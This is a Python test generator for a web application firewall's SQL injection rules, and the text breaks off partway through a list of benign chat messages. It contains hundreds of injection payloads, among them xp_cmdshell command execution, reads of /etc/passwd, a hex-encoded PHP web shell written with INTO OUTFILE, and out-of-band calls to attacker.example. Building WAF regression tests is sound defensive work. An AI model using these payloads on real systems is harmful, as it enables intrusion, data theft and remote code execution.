"""Blind positive tests for the SQL injection titles of CRS 3.3.4 at paranoia levels 1 and 2 (and four request
titles CRS 4.x added), written the way a careful rule author writes a rule's positive tests, with benign
requests that carry the same words innocently.

Angle: one sub-family per detection title. For each title: the canonical attack first, then one payload per
alternative the title's family covers, then variants (case, comments, spacing, quoting, context). The
paranoia-level-2 titles get as many payloads as the level-1 titles. The generic titles ("SQL Injection
Attack") are covered by distinct families of SQL syntax: function calls, operators, clauses, keywords, quoted
comparisons and statements.

Families and sub-families (category "sqli" only; sub = title id and a short name):
  PL1: 942100-libinjection, 942140-db-names, 942160-sleep-benchmark, 942170-conditional-sleep,
  942190-mssql-exec-info, 942220-integer-overflow, 942230-conditional, 942240-charset-mssql-dos,
  942250-match-merge-execute, 942270-union-select-from, 942280-pgsleep-waitfor-shutdown, 942290-mongodb,
  942320-stored-procedures, 942350-udf-data-manipulation, 942360-concatenated-sqllfi, 942500-mysql-inline-comment.
  PL2: 942110-injection-testing, 942120-sql-operator, 942130-tautology, 942150-generic-functions,
  942180-auth-bypass-1, 942200-comment-space-backtick, 942210-chained-1, 942260-auth-bypass-2,
  942300-comments-conditions-char, 942310-chained-2, 942330-probing-1, 942340-auth-bypass-3,
  942361-alter-union, 942370-probing-2, 942380-generic-clauses, 942390-generic-operators,
  942400-generic-and-or-quotes, 942410-generic-function-calls, 942470-generic-vendor-procedures,
  942480-generic-statements, 942430-special-char-anomaly, 942440-comment-sequence, 942450-hex-encoding,
  942510-ticks-backticks.
  CRS 4.x: crs4-json-sqli, crs4-scientific-notation, crs4-split-query-auth, crs4-auth-bypass-4.

Placements: every payload is sent twice. Once in one of our real routes, rotating: the query of /api/users, the
form of /admin/users/search (with csrf_token), the JSON of /api/users (JSON-looking NoSQL payloads as objects),
a cookie, the User-Agent, the Referer (inside a URL), a custom header, a parameter name, an XML body, a
multipart field or filename, and a path segment under /api/users/. Once the way a WAF's regression suite sends
it ("rs-" placements): to a path that is not our route (/, /index.php, /get, /post, /search, /api/v1/items) under
an arbitrary parameter name (foo, var, x, test, id, arg1), as a query string, form body, JSON body or XML body,
or raw in the User-Agent, Referer, a custom header or a cookie.

Benign: Slack messages and bios (chat_and_bio), site searches, admin-panel prose, names and addresses in
profiles, public links, browser headers and cookies, all carrying the same words (select, union, drop, order,
sleep, match, merge, having, apostrophes in names, hashtags, dashes, hex colours) as real users type them.

Authorship and independence: written from general knowledge of SQL injection and from the rule titles alone
(no ruleset, regression test, engine code or public payload list was read), measured once through the real
stack on unchanged code, deterministic (no clock, no randomness).
"""

from __future__ import annotations

import json
import urllib.parse
from collections.abc import Iterator
from typing import Any
from xml.sax.saxutils import escape

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import chat_and_bio, links_and_prose
from .records import numbered, print_records

NAME = "fiftieth"

TITLES: list[tuple[str, list[str]]] = [
    # ---------------------------------------------------------------- PL1
    ("942100-libinjection", [
        "1' OR '1'='1",
        "1 UNION SELECT username, password FROM users--",
        "' AND 1=CONVERT(int,(SELECT @@version))--",
        "1; DROP TABLE users--",
        "admin'--",
        "1) OR (1=1",
        "' OR 1=1 LIMIT 1#",
        "-1' UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables-- -",
        "1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x "
        "FROM information_schema.tables GROUP BY x)a)",
        "\"; SELECT pg_sleep(5)--",
        "1' ORDER BY 3--+",
        "x' AND extractvalue(1,concat(0x7e,(select user())))-- ",
    ]),
    ("942140-db-names", [
        "' UNION SELECT table_name FROM information_schema.tables--",
        "1 union select name from master..sysdatabases",
        "' union select sql from sqlite_master--",
        "1 AND (SELECT COUNT(*) FROM mysql.user)>0",
        "' union select tablename from pg_catalog.pg_tables--",
        "1 union select banner from v$version--",
        "' and exists(select * from msdb..backupset)--",
        "1 union select user from mysql.db",
        "UNION SELECT column_name FROM INFORMATION_SCHEMA.COLUMNS WHERE table_name='users'",
        "' union select owner,table_name from all_tables--",
        "1;select name from sysibm.systables",
        "' union select null,name from sqlite_temp_master--",
        "1 and (select count(*) from pg_shadow)>0",
    ]),
    ("942160-sleep-benchmark", [
        "1 AND SLEEP(5)",
        "' OR sleep(10)#",
        "1 and benchmark(5000000,md5(1))",
        "'+(select*from(select(sleep(5)))a)+'",
        "1' AND SLEEP (3)-- -",
        "BENCHMARK(10000000,SHA1('x'))",
        "1 or sleep(0x05)",
        "SLEEP/**/(5)",
        "(select sleep(5))",
        "1;SELECT BENCHMARK(1e7,encode('a','b'))",
        "\" AND sLeEp(4) AND \"1\"=\"1",
    ]),
    ("942170-conditional-sleep", [
        "1 AND IF(1=1,SLEEP(5),0)",
        "SELECT IF(SUBSTRING(user(),1,1)='r',BENCHMARK(5000000,MD5(1)),0)",
        "' UNION SELECT IF(1=1,SLEEP(3),1)--",
        "1) AND (SELECT * FROM (SELECT(SLEEP(5)))x)--",
        ";select if(ascii(substr(database(),1,1))>64,sleep(5),1)",
        "1 or if(now()=sysdate(),sleep(5),0)",
        "' and (select case when (1=1) then sleep(5) else 1 end)--",
        "SELECT BENCHMARK(2000000,MD5('a'))",
        "1 AND (SELECT 9999 FROM (SELECT(SLEEP(5)))abc)",
        "if(length(database())>3,sleep(4),0)",
        "\" OR IF(1,SLEEP(2),0) OR \"",
    ]),
    ("942190-mssql-exec-info", [
        "'; EXEC xp_cmdshell 'whoami'--",
        "1; exec master..xp_cmdshell 'dir c:\\'--",
        "' union select @@version--",
        "'; EXEC sp_configure 'show advanced options',1;RECONFIGURE--",
        "1 union select null,user_name(),db_name()--",
        "'; exec('sel'+'ect 1')--",
        "' AND 1=(SELECT TOP 1 name FROM sysobjects)--",
        "1;EXECUTE sp_executesql N'SELECT 1'",
        "' union select 1,@@servername--",
        "'; exec xp_regread 'HKEY_LOCAL_MACHINE','SOFTWARE\\Microsoft'--",
        "1 UNION ALL SELECT name FROM master.sys.databases",
        "'; declare @q varchar(99);set @q='whoami';exec master.dbo.xp_cmdshell @q--",
        "' or 1 in (select @@version)--",
    ]),
    ("942220-integer-overflow", [
        "2.2250738585072011e-308",
        "3.0.00738585072007e-308",
        "2147483648",
        "4294967296",
        "-2147483649",
        "9223372036854775808",
        "18446744073709551616",
        "4294967295",
        "2147483647",
        "-9223372036854775809",
        "2.2250738585072012e-00308",
        "1e309",
    ]),
    ("942230-conditional", [
        "' OR CASE WHEN 1=1 THEN 1 ELSE 0 END--",
        "1 AND (CASE WHEN (1=1) THEN 1 ELSE 1/0 END)=1",
        "' AND IF(1=1,'a','b')='a",
        "1) and iif(1=1,1,0)=1--",
        "' or (select case when substring(user,1,1)='a' then 1 else 0 end from dual)=1--",
        "1 AND IFNULL(ASCII(SUBSTRING(database(),1,1)),0)>100",
        "CASE WHEN (SELECT COUNT(*) FROM users)>0 THEN SLEEP(1) END",
        "1 union select case when 1=1 then 'x' end",
        "' AND (SELECT IF(1=1,1,(SELECT 1 UNION SELECT 2)))='1",
        "ORDER BY (CASE WHEN (1=1) THEN name ELSE email END)",
        "1 and elt(1=1,sleep(1))",
        "' || (case when 1=1 then pg_sleep(2) else pg_sleep(0) end)::text || '",
    ]),
    ("942240-charset-mssql-dos", [
        "'; SET NAMES 'gbk'--",
        "1 union select convert(password using latin1) from users",
        "'; ALTER TABLE users CONVERT TO CHARACTER SET latin1--",
        "1'; alter database shop char set utf8--",
        "\u00bf' or 1=1-- -",
        "'; WAITFOR TIME '23:59:59'--",
        "'; waitfor delay '99:59:59'--",
        "1;WAITFOR DELAY '0:0:30'",
        "_latin1'admin' COLLATE latin1_bin",
        "'; SET CHARACTER SET 'big5'--",
        "\"; waitfor delay \"0:0:20\"--",
        "1 and convert(user() using utf8)=0x726f6f74",
    ]),
    ("942250-match-merge-execute", [
        "' union select 1 from articles where match(title) against('+a' in boolean mode)--",
        "1 AND MATCH(body) AGAINST ('admin')",
        "'; MERGE INTO users u USING dual ON (1=1) WHEN MATCHED THEN UPDATE SET role='admin'--",
        "MERGE users AS t USING (SELECT 1 AS id) AS s ON t.id=s.id WHEN MATCHED THEN DELETE;",
        "'; EXECUTE IMMEDIATE 'DROP TABLE users'; --",
        "begin execute immediate 'grant dba to scott'; end;",
        "1 || (select 1 from dual where match(a) against('x'))",
        "'; execute immediate 'select 1 from dual'--",
        "MATCH (name,email) AGAINST ('root' IN NATURAL LANGUAGE MODE)",
        "' and 1=(select count(*) from t where match (c) against ('*'))#",
        "merge into accounts using (select 1 from dual) on (1=1) when not matched then insert values (1)",
        "x'; EXECUTE IMMEDIATE :sql USING 'a'; --",
    ]),
    ("942270-union-select-from", [
        "' union select * from users--",
        "1 UNION SELECT password FROM users",
        "-1 union all select 1,2,3 from dual",
        "' UNION SELECT NULL FROM DUAL--",
        "1 union distinct select name from customers",
        "UNION/**/SELECT/**/user/**/FROM/**/mysql.user",
        "' union select username,password from admin where '1'='1",
        "0 union select load_file('/etc/passwd') from dual",
        "1)) union select id from t--",
        "' UNION SELECT @@version FROM dual#",
        "union select top 1 name from sysobjects",
        "x' UNION SELECT email FROM accounts WHERE 'a'='a",
    ]),
    ("942280-pgsleep-waitfor-shutdown", [
        "'; SELECT pg_sleep(10)--",
        "1;select pg_sleep(5)",
        "' || pg_sleep(3) || '",
        "1 AND 1=(SELECT 1 FROM pg_sleep(5))",
        "'; WAITFOR DELAY '0:0:5'--",
        "1 waitfor delay '00:00:10'",
        "'; SHUTDOWN--",
        "1; shutdown with nowait;--",
        "'; select pg_sleep_for('5 seconds')--",
        "') ; waitfor delay '0:0:3' --",
        "\";shutdown --",
        "1 or pg_sleep(5) is null",
    ]),
    ("942290-mongodb", [
        "{\"$ne\": null}",
        "{\"$gt\": \"\"}",
        "user[$ne]",
        "pass[$gt]",
        "{\"$where\": \"sleep(5000)\"}",
        "'; return true; var x='",
        "' || '1'=='1",
        "{\"$regex\": \".*\"}",
        "{\"$in\": [\"admin\", \"root\"]}",
        "db.users.find({$where: function(){return true}})",
        "';sleep(5000);'",
        "role[$exists]",
        "{\"$or\": [{}, {\"a\": \"a\"}]}",
        "admin' && this.password.length > 0 && '1'=='1",
    ]),
    ("942320-stored-procedures", [
        "'; CREATE OR REPLACE FUNCTION system(cstring) RETURNS int AS '/lib/libc.so.6','system' "
        "LANGUAGE 'c' STRICT--",
        "'; DO $$ BEGIN PERFORM pg_sleep(1); END $$--",
        "1; CALL proc_update_role('admin')",
        "'; create procedure p() begin select 1; end--",
        "1;select lo_import('/etc/passwd')",
        "'; COPY users TO PROGRAM 'id'--",
        "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)",
        "'; DECLARE c CURSOR FOR SELECT 1; --",
        "'; CREATE TRIGGER t BEFORE INSERT ON users FOR EACH ROW SET NEW.role='admin'--",
        "1;select pg_read_file('/etc/passwd')",
        "' union select pg_ls_dir('.')--",
        "'; create function f() returns trigger language plpgsql as $$begin return new; end$$--",
        "1;select lo_export(16384,'/tmp/x')",
    ]),
    ("942350-udf-data-manipulation", [
        "'; CREATE FUNCTION sys_eval RETURNS string SONAME 'udf.so'--",
        "1; DROP TABLE users",
        "'; DELETE FROM sessions--",
        "'; INSERT INTO users(name,role) VALUES('x','admin')--",
        "'; UPDATE users SET email='x@attacker.example' WHERE name='admin'--",
        "'; TRUNCATE TABLE audit_log--",
        "1; ALTER TABLE users ADD COLUMN x int",
        "' ; select * into outfile '/var/www/shell.php' from users--",
        "'; CREATE TABLE pwn(data text);--",
        ";drop database shop",
        "1; RENAME TABLE users TO users_old",
        "'; load data infile '/etc/passwd' into table t--",
    ]),
    ("942360-concatenated-sqllfi", [
        "1' AND 1=0 UNION SELECT LOAD_FILE('/etc/passwd')-- ",
        "' ; select load_file(0x2f6574632f706173737764)--",
        "1 UNION SELECT 1 INTO OUTFILE '/tmp/x'",
        "admin';select 1",
        "1;select * from users",
        "x' UNION SELECT LOAD_FILE('C:\\\\boot.ini')#",
        "1';INSERT INTO log VALUES(1)--",
        "\"; select @@datadir --",
        "1 ; SHOW TABLES",
        "' AS a FROM users--",
        "'; DESCRIBE users; --",
        "1'||(select load_file('/etc/hosts'))||'",
    ]),
    ("942500-mysql-inline-comment", [
        "/*!50000UNION*/ /*!50000SELECT*/ 1,2",
        "1 /*!UNION*/ SELECT password FROM users",
        "'/*!OR*/1=1-- ",
        "/*!12345select*/ user()",
        "1/*!and*/1=1",
        "/*!*/union/*!*/select 1",
        "' /*!50700 AND SLEEP(5)*/--",
        "1/*!32302 AND 1=1*/",
        "/*!40101 SET NAMES utf8 */",
        "admin'/*! OR 1 */#",
        "1 /*!00000union*//*!00000all*//*!00000select*/ 1",
        "x/*!*/",
    ]),
    # ---------------------------------------------------------------- PL2
    ("942110-injection-testing", [
        "'",
        "''",
        "'--",
        "1'\"",
        "\")",
        "'))",
        "\\'",
        "' #",
        "admin'",
        "\";--",
        "1'--+",
        "';",
    ]),
    ("942120-sql-operator", [
        "1 rlike 'a'",
        "name regexp '^a'",
        "1 xor 1",
        "a' sounds like 'b",
        "1 NOT BETWEEN 0 AND 5",
        "id IS NOT NULL",
        "1 div 0",
        "5 <=> 5",
        "' like '%",
        "x' glob '*",
        "1 || 1",
        "1 mod 2",
        "a' collate utf8_bin = 'a",
    ]),
    ("942130-tautology", [
        "1' or 'a'='a",
        "1 or 1=1",
        "' OR 2>1--",
        "\" or \"x\"=\"x",
        "1 AND 2=2",
        "' or 'abc' like 'abc",
        "' or 1<>2--",
        "x' OR 'x' != 'y",
        "1 or true",
        "' OR 5 BETWEEN 1 AND 9--",
        "admin' or 3 = 3 #",
        "' or 'a'='a' --",
    ]),
    ("942150-generic-functions", [
        "1 and ascii(substring(user(),1,1))>64",
        "' and length(database())>1--",
        "concat(0x61,0x62)",
        "1 and ord(mid(version(),1,1))>51",
        "char(97,100,109,105,110)",
        "' union select group_concat(table_name) from information_schema.tables--",
        "1 and hex(user())",
        "cast(version() as int)",
        "' and extractvalue(rand(),concat(0x3a,user()))--",
        "updatexml(1,concat(0x7e,database()),1)",
        "unhex('61646d696e')",
        "1 and instr(user(),'root')",
        "' || utl_inaddr.get_host_name((select user from dual)) || '",
    ]),
    ("942180-auth-bypass-1", [
        "admin' --",
        "admin'#",
        "' or ''='",
        "'='",
        "\"=\"\"",
        "' or 1 --",
        "x' or 1#",
        "'or'1'='1",
        "\"or\"a\"=\"a",
        "admin\")--",
        "' or true--",
        "1' or 1 -- -",
    ]),
    ("942200-comment-space-backtick", [
        "1/**/union/**/select/**/1",
        "'/**/or/**/1=1#",
        "1,(select/**/1)",
        "'/*comment*/union/*comment*/select 1",
        "1 union\nselect 1",
        "'or/**/'1'='1",
        "` or 1=1#",
        "users` where 1=1 -- ",
        "1,sleep(5)/*",
        "'+(select/**/user())+'",
        "/**/AND/**/1=0",
        "1\tor\t1=1",
    ]),
    ("942210-chained-1", [
        "1); DROP TABLE users;--",
        "'); INSERT INTO admin VALUES('x');--",
        "1; SELECT * FROM users WHERE 1=1;",
        "'; update users set role='admin';--",
        "' AND 1=1; --",
        "1'; exec('select 1');--",
        "\"); delete from t where (\"1\"=\"1",
        "'),(select 1),('",
        "'; select 1; select 2;--",
        "1;declare @x int;--",
        "') or ('1'='1",
        "; shutdown;",
    ]),
    ("942260-auth-bypass-2", [
        "' or 1=1 limit 1 -- ",
        "admin' or '1'='1'--",
        "' union select 1,'admin','x'--",
        "admin' and 1=1--",
        "' having 1=1--",
        "' group by users.id having 1=1--",
        "anything' OR 'x'='x",
        "' or username like '%admin%",
        "') or true--",
        "' or 1 in (1)--",
        "1' or '1' = '1' /*",
        "x' AND email IS NULL; --",
    ]),
    ("942300-comments-conditions-char", [
        "char(65)||char(66)",
        "' and char(97)='a",
        "chr(117)||chr(115)",
        "1) or (1=1)#",
        "' ) and ( 1 = 1 ) -- ",
        "concat(char(0x41),char(0x42))",
        "1 and 1=1#",
        "' or 1#",
        "1) and 1 in (select 1)-- -",
        "x' || chr(65) || '",
        "select char(0x61646d696e)",
        "'; select char(83)+char(81)+char(76)--",
    ]),
    ("942310-chained-2", [
        "'; begin declare @v varchar(99) select @v='x' end--",
        "1;exec(char(0x73656c65637420))",
        "\"; select * from users; --",
        "'); select pg_sleep(1); --",
        "1 and (select 1 from dual);",
        "' or (select count(*) from users)>0 --",
        "'); DROP TABLE x --",
        "\" ; exec master..sp_who --",
        "1)); select 1 --",
        "'; insert into t select * from users; --",
        "'; update t set a=1 where b in (select 1); --",
        "' and (select top 1 name from users) = 'a' --",
    ]),
    ("942330-probing-1", [
        "\" or 1=1 --",
        "' or '1",
        "1' and '1'='1",
        "' and 'a'='b",
        "1\" and \"1\"=\"1",
        "' or 0=0 #",
        "\" or 0=0 --",
        "or 1=1--",
        "' or 'x'='x",
        "' and 1=0 --",
        "1 or 1 --",
        "') or ('a'='a",
    ]),
    ("942340-auth-bypass-3", [
        "' in ('admin') --",
        "' or name in ('admin')--",
        "admin' AND 1 LIKE 1--",
        "' or '' like '",
        "' ) or username like 'a%' --",
        "') or ('x') = ('x",
        "' or uid=0 --",
        "' or 1 = 1 group by 1 --",
        "x' or not 0 --",
        "admin' and substring(email,1,1)='a",
        "' or exists(select 1)--",
        "' ORDER BY 1--",
    ]),
    ("942361-alter-union", [
        "1 union select 1",
        "' union all select null--",
        "ALTER TABLE users DROP COLUMN email",
        "'; alter user root identified by 'x'--",
        "1 UNION (SELECT 2)",
        "x' alter database db1 set offline--",
        "union select",
        "alter system set x=1",
        "')union(select(1))#",
        "1 UnIoN sElEcT 1",
        "alter login sa with check_policy=off",
        "\" UNION SELECT \"a",
    ]),
    ("942370-probing-2", [
        "' and 1 = 1 and '1'='1",
        "1\" and \"a\" like \"a",
        "'; --",
        "' + 'a",
        "' || 'a",
        "1' * 1",
        "' & 1",
        "\"|| \"",
        "'-'",
        "'^'",
        "'/'",
        "' - 0 #",
    ]),
    ("942380-generic-clauses", [
        "' having 1=1 --",
        "1 and exists(select * from users)",
        "1 order by 10--",
        "1 group by email having 1=1--",
        "' into dumpfile '/tmp/a'--",
        "' limit 1 offset 0--",
        "1 procedure analyse()",
        "' select top 1 *--",
        "1 and not exists(select 1)",
        "x' into outfile '/var/www/x.php'#",
        "' order by 1 desc--",
        "1 having count(*)>0",
    ]),
    ("942390-generic-operators", [
        "' or 'a' = 'a",
        "1 xor 1=1",
        "' and 'x' regexp '^x",
        "1 or 0<1",
        "' || 'x'='x",
        "1 && 1=1",
        "' or 'a' sounds like 'a",
        "1 div 1 = 1",
        "' or name rlike '.*",
        "' and ascii('a')=97--",
        "1 OR 0x41='A'",
        "' or @@version like '5%",
    ]),
    ("942400-generic-and-or-quotes", [
        "' and '1",
        "1 and 'a'",
        "x' AND 'y",
        "' AND 1 --",
        "'and'1'='1",
        "\" and \"1",
        "' or 'a",
        "1' and 'b' = 'b",
        "' and (select 1)='1",
        "1' AND '0",
        "' AND ''='",
        "'and(1)and'",
    ]),
    ("942410-generic-function-calls", [
        "1 and abs(-1)=1",
        "ascii(substr(user,1,1))",
        "' and bin(12)>0--",
        "' and bit_length(user())>1--",
        "1 and char_length(database())>0",
        "coalesce(null,version())",
        "current_user()",
        "1 or length(database())=4",
        "lpad(user(),10,'x')",
        "' and sha1('a') is not null--",
        "schema()",
        "1 and last_insert_id()>0",
        "connection_id()",
    ]),
    ("942470-generic-vendor-procedures", [
        "'; exec xp_dirtree '\\\\attacker.example\\x'--",
        "' || utl_http.request('http://attacker.example/') || '",
        "' and dbms_pipe.receive_message('a',5)=1--",
        "1; exec sp_addlogin 'x','y'--",
        "select dbms_xmlgen.getxml('select user from dual') from dual",
        "'; exec xp_servicecontrol 'start','schedule'--",
        "1 and 1=utl_inaddr.get_host_address('x')",
        "' or sys_context('USERENV','CURRENT_USER')='x",
        "'; exec master.dbo.xp_fileexist 'c:\\x'--",
        "1; exec sp_oacreate 'wscript.shell',@o out--",
        "' and ctxsys.drithsx.sn(1,(select user from dual))=1--",
        "'; exec xp_loginconfig--",
        "1 union select sysdate from dual",
        "'; exec sp_makewebtask 'c:\\x.html','select 1'--",
    ]),
    ("942480-generic-statements", [
        "select * from users",
        "insert into users values (1)",
        "delete from users where 1",
        "update users set admin=1",
        "drop table accounts",
        "create table x (a int)",
        "select name from sqlite_master",
        "SELECT TOP 1 * FROM admins",
        "insert into log(id) select id from users",
        "select count(*) from orders where 1=1",
        "truncate table users",
        "union all select",
    ]),
    ("942430-special-char-anomaly", [
        "'';;;;--''--;;((()))",
        "1'))))))))))))))--",
        "~!@#$%^&*()_+|}{\":?><",
        "((((((((((((1))))))))))))",
        "'a'='a'--'b'='b'--'c'='c'",
        ";;;;;;;;;;;;;",
        "--------------------",
        "/*/*/*/*/*/*/*/*/*/*/*/*/",
        "'|'|'|'|'|'|'|'|'|'|'|'|'",
        "@@@@@@@@@@@@@@",
        "((select(1)from(dual)where(1=1)and(2=2)))",
        "$$$$$$$$$$$$$$$$",
    ]),
    ("942440-comment-sequence", [
        "admin'--",
        "1/*",
        "1 --",
        "' #",
        "1;--",
        "*/",
        "x'/*",
        "1-- -",
        "';#",
        "--+",
        "1 /* test */",
        "1#",
    ]),
    ("942450-hex-encoding", [
        "0x61646d696e",
        "1 and user()=0x726f6f74",
        "' union select 0x3c3f7068702073797374656d28245f4745545b2763275d293b203f3e into outfile '/tmp/s.php'--",
        "select 0x2f6574632f706173737764",
        "x'61646d696e'",
        "X'53514C'",
        "where name=0x41444d494e",
        "0x7e",
        "concat(0x3a,0x3a)",
        "0X414243",
        "1 or 0x31=0x31",
        "unhex(0x4142)",
    ]),
    ("942510-ticks-backticks", [
        "1`or`1",
        "admin`--",
        "`users`",
        "`or 1=1#",
        "\u00b4 or 1=1--",
        "\u2018 or \u20181\u2019=\u20181",
        "\u2019 OR 1=1--",
        "` union select 1--",
        "a`; drop table `x",
        "1\u00b4 and \u00b41\u00b4=\u00b41",
        "`",
        "`;select 1;`",
    ]),
    # ---------------------------------------------------------------- CRS 4.x
    ("crs4-json-sqli", [
        "' OR '{\"a\":1}'->'a' = '1",
        "1 AND JSON_EXTRACT('{\"x\":1}', '$.x')=1",
        "' or '{\"a\":2}' @> '{\"a\":2}'--",
        "1 OR JSON_CONTAINS('[1]','1')",
        "' AND JSON_KEYS((SELECT CONVERT((SELECT user()) USING utf8)))--",
        "' OR '{\"b\":2}'::jsonb ? 'b'--",
        "1 or json_valid('{}')",
        "' union select json_arrayagg(email) from users--",
        "'||(SELECT '{\"a\":1}'::json->>'a')||'",
        "1 AND '[1,2]'::jsonb <@ '[1,2,3]'::jsonb",
        "' or JSON_DEPTH('{}') != 2 --",
        "1 AND JSON_OBJECT('a',user()) LIKE '%root%'",
    ]),
    ("crs4-scientific-notation", [
        "1.e(ascii 1.e(substring(1.e(select email from users limit 1 1.e,1 1.e) 1.e,1 1.e,1 1.e)1.e)1.e) = 70 "
        "or'1'='2",
        "1.e1union select 1",
        "0.1e1 or 1=1",
        "1.e(1)",
        "'1.e(' or 1=1-- ",
        "1e0union select user()",
        "1.e,version()",
        "2.e)or(1=1",
        "1.e-1 union select 1",
        "-1.0e(select 1)",
        "1.e union select null",
        "1.e(sleep(5))",
    ]),
    ("crs4-split-query-auth", [
        "admin\\",
        "admin\\'--",
        "\\' or 1=1 -- -",
        "x\\' OR '1'='1",
        "\\'' or ''='",
        "' or 1=1 -- \\",
        "\\\\' OR 1#",
        "\\\" or \\\"\\\"=\\\"",
        "'/*",
        "*/ or 1=1-- ",
        "admin'/*",
        "*/'",
    ]),
    ("crs4-auth-bypass-4", [
        "' or 'a' < 'b",
        "' or 2 > 1 or '",
        "'or''<'a",
        "\"or 1>0 or\"",
        "' or 1 between 0 and 2 or '",
        "' or not 1=0 -- ",
        "'||1||'",
        "' or 'a'||'b'='ab",
        "1' or '1'>'0",
        "admin' or 'b' >= 'a",
        "' or !0 -- ",
        "' or 1 is not null -- ",
    ]),
]

# ---------------------------------------------------------------------------------------------- placements

REAL_PLACES = ["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "header:X-Search-Filter",
               "param-name", "xml", "multipart-field", "multipart-filename", "path"]
REAL_PARAMS = ["q", "username", "filter", "sort", "email", "search", "id", "name"]
RS_PATHS = ["/", "/index.php", "/get", "/post", "/search", "/api/v1/items"]
RS_PARAMS = ["foo", "var", "x", "test", "id", "arg1"]
RS_CARRIERS = ["query", "form", "json", "xml", "header:User-Agent", "header:Referer", "header:X-Custom", "cookie"]
BOUNDARY = "----fiftiethBoundary7MA4YWxkTrZu0gW"


def _hv(value: str) -> str:
    """A header value: no CR, LF or NUL."""
    return value.replace("\r", " ").replace("\n", " ").replace("\0", " ")


def _json_value(payload: str) -> Any:
    """A JSON-looking payload (NoSQL operators) as the object an attacker posts; anything else as a string."""
    if payload.startswith("{"):
        try:
            return json.loads(payload)
        except ValueError:
            return payload
    return payload


def _with_headers(rec: dict[str, Any], extra: dict[str, str]) -> dict[str, Any]:
    return {**rec, "headers": {**rec["headers"], **extra}}


def _xml(uri: str, name: str, payload: str) -> dict[str, Any]:
    body = f'<?xml version="1.0" encoding="UTF-8"?><request><{name}>{escape(payload)}</{name}></request>'
    return {"method": "POST", "uri": uri, "body": body,
            "headers": {"User-Agent": UA, "Accept": "application/xml", "Content-Type": "application/xml"}}


def _multipart(uri: str, name: str, payload: str, as_filename: bool) -> dict[str, Any]:
    if as_filename:
        part = (f'Content-Disposition: form-data; name="avatar"; filename="{payload}"\r\n'
                "Content-Type: image/png\r\n\r\n\x89PNG-not-really\r\n")
    else:
        part = f'Content-Disposition: form-data; name="{name}"\r\n\r\n{payload}\r\n'
    body = (f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"csrf_token\"\r\n\r\nt0k3n\r\n"
            f"--{BOUNDARY}\r\n{part}--{BOUNDARY}--\r\n")
    return {"method": "POST", "uri": uri, "body": body,
            "headers": {"User-Agent": UA, "Accept": "application/json",
                        "Content-Type": f"multipart/form-data; boundary={BOUNDARY}"}}


def real_place(place: str, name: str, payload: str) -> tuple[str, dict[str, Any]]:
    """One of our routes carrying `payload` at `place`; returns the placement actually used (a filename that
    cannot hold the payload falls back to a multipart field)."""
    if place == "multipart-filename" and any(c in payload for c in "\"\r\n"):
        place = "multipart-field"
    if place == "query":
        return place, _get(_query("/api/users", [(name, payload), ("page", "1")]))
    if place == "form":
        return place, _form("/admin/users/search", [("csrf_token", "t0k3n"), (name, payload)])
    if place == "json":
        return place, _json("/api/users", {"email": "a@example.org", name: _json_value(payload)})
    base = _get("/api/users?page=1")
    if place == "cookie":
        return place, _with_headers(base, {"Cookie": "session=abc123; last_search=" + urllib.parse.quote(payload)})
    if place == "header:User-Agent":
        return place, _with_headers(base, {"User-Agent": _hv(payload)})
    if place == "header:Referer":
        return place, _with_headers(base, {"Referer": "https://app.example.com/users?q=" +
                                           urllib.parse.quote(payload, safe="")})
    if place == "header:X-Search-Filter":
        return place, _with_headers(base, {"X-Search-Filter": _hv(payload)})
    if place == "param-name":
        return place, _get("/api/users?" + urllib.parse.quote(payload, safe="") + "=1&page=1")
    if place == "xml":
        return place, _xml("/api/users", name, payload)
    if place in ("multipart-field", "multipart-filename"):
        return place, _multipart("/api/users", name, payload, place == "multipart-filename")
    return "path", _get("/api/users/" + urllib.parse.quote(payload, safe=""))


def rs_place(path: str, name: str, carrier: str, payload: str) -> dict[str, Any]:
    """A regression-suite style request: a path that is not our route, an arbitrary parameter name."""
    if carrier == "query":
        return _get(_query(path, [(name, payload)]))
    if carrier == "form":
        return _form(path, [(name, payload)])
    if carrier == "json":
        return _json(path, {name: _json_value(payload)})
    if carrier == "xml":
        return _xml(path, name, payload)
    base = _get(path)
    if carrier == "cookie":
        return _with_headers(base, {"Cookie": f"{name}=" + urllib.parse.quote(payload)})
    header = carrier.split(":", 1)[1]
    return _with_headers(base, {header: _hv(payload)})


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    k = 0
    for sub, payloads in TITLES:
        for payload in payloads:
            place, rec = real_place(REAL_PLACES[k % len(REAL_PLACES)], REAL_PARAMS[k % len(REAL_PARAMS)], payload)
            n += 1
            yield {**rec, "id": f"{NAME}-sqli-{n:04d}", "category": "sqli", "sub": sub, "placement": place,
                   "payload": payload}
            path, name = RS_PATHS[k % len(RS_PATHS)], RS_PARAMS[(k // 2) % len(RS_PARAMS)]
            carrier = RS_CARRIERS[(k * 3 + 1) % len(RS_CARRIERS)]
            n += 1
            yield {**rs_place(path, name, carrier, payload), "id": f"{NAME}-sqli-{n:04d}", "category": "sqli",
                   "sub": sub, "placement": "rs-" + carrier, "payload": payload}
            k += 1


# ---------------------------------------------------------------------------------------------- benign

CHAT = [
    "can you select the union rep for the Q3 meeting? Maria from the union said she's free",
    "I'll drop the table from the slide deck, it's too busy",
    "order by Friday please, the caterer needs the headcount",
    "sleep well, see you tomorrow!",
    "the benchmark results are in; the new laptops are about 2x faster",
    "O'Brien and O'Neil are both out today",
    "don't forget: it's Pat's birthday, cake at 3",
    "rock 'n' roll night at the pub, who's in?",
    "we'll update the roadmap and delete the old drafts",
    "insert your name into the sign-up sheet before noon",
    "1:1 with Sam moved to 2pm",
    "#general is noisy today -- let's move it to #random",
    "lol -- that's what she said",
    "the truncate button in the log viewer cuts long lines",
    "let's create a table of contents for the handbook",
    "shutdown of the old office is on the 30th",
    "from now on, select 'Reply all' only if you really need to",
    "Union Station at 5, then dinner?",
    "MATCH tickets for Saturday, anyone want one? Arsenal against Spurs",
    "merge the PR when CI is green",
    "execute the plan, then we wait for the results",
    "wait for the delay notice from the airline before booking a hotel",
    "the alter ego of our mascot is hilarious",
    "if it rains, the picnic is cancelled; else we meet at noon",
    "case by case, then. when it's urgent, call me",
    "having lunch, back in 20",
    "group by team for the photo, please",
